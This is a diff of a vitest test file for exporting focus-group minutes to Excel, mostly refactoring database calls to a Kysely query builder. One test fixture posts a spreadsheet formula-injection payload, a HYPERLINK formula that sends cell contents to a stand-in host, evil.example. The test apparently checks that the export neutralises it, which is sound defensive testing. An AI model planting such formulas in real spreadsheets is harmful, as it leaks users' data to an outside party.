@@ -1,4 +1,3 @@
-import { kysely } from '$lib/testing/orgs';
 import ExcelJS from 'exceljs';
 import JSZip from 'jszip';
 import { beforeAll, describe, expect, it } from 'vitest';
@@ -47,8 +46,8 @@ let book: Map<string, string>;
 
 beforeAll(async () => {
 	fgd = await facilitatedFgd();
-	id = await buildMinutes(kysely(fgd.db), fgd.session.id, 'id', NOW);
-	en = await buildMinutes(kysely(fgd.db), fgd.session.id, 'en', NOW);
+	id = await buildMinutes(fgd.db, fgd.session.id, 'id', NOW);
+	en = await buildMinutes(fgd.db, fgd.session.id, 'en', NOW);
 	book = await openXlsx(await renderXlsx(id));
 });
 
@@ -59,7 +58,7 @@ describe('text cells', () => {
 		await small.post(ani, 'kendala', '=HYPERLINK("http://evil.example/?d="&A1,"klik")');
 		await small.post(ani, 'kendala', '-5% bunga untuk UMKM');
 		await small.post(ani, 'kendala', '+62 812 3456 7890 hubungi');
-		const book = await loadBook(await renderXlsx(await buildMinutes(kysely(small.db), small.session.id, 'id', NOW)));
+		const book = await loadBook(await renderXlsx(await buildMinutes(small.db, small.session.id, 'id', NOW)));
 		const cells = book.getWorksheet('Masukan')!.getColumn(4).values.filter((v) => v !== undefined && v !== null);
 		expect(cells).toContain('=HYPERLINK("http://evil.example/?d="&A1,"klik")');
 		expect(cells).toContain('-5% bunga untuk UMKM');
@@ -177,15 +176,15 @@ describe('the Tema sheet', () => {
 	});
 
 	it('gives the dots on the theme itself when the themes were voted on', async () => {
-		const small = newFgd();
+		const small = await newFgd();
 		const ani = await small.join('Ani', 'media', 'Radio Contoh');
 		await small.post(ani, 'kendala', 'Modal usaha sulit');
 		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
-		const theme = small.db.prepare('SELECT id FROM themes WHERE session_id = ?').get(small.session.id) as { id: string };
+		const theme = await small.db.selectFrom('themes').select('id').where('session_id', '=', small.session.id).executeTakeFirstOrThrow();
 		await small.run('facilitator', { type: 'phase.set', phase: 'voting' });
 		await small.run('facilitator', { type: 'voting.settings', target: 'themes' });
 		await small.run(ani, { type: 'vote.set', targetId: theme.id, count: 3 });
-		expect(await themeSheet(await buildMinutes(kysely(small.db), small.session.id, 'en', NOW))).toEqual([
+		expect(await themeSheet(await buildMinutes(small.db, small.session.id, 'en', NOW))).toEqual([
 			['No', 'Theme', 'Contributions', 'Votes'],
 			[1, 'Permodalan', 0, 3]
 		]);
@@ -194,6 +193,6 @@ describe('the Tema sheet', () => {
 	it('has no votes column when nobody voted', async () => {
 		const small = await sampleFgd();
 		await small.run('facilitator', { type: 'theme.create', name: 'Permodalan' });
-		expect((await themeSheet(await buildMinutes(kysely(small.db), small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
+		expect((await themeSheet(await buildMinutes(small.db, small.session.id, 'id', NOW)))[0]).toEqual(['No', 'Tema', 'Jumlah masukan']);
 	});
 });
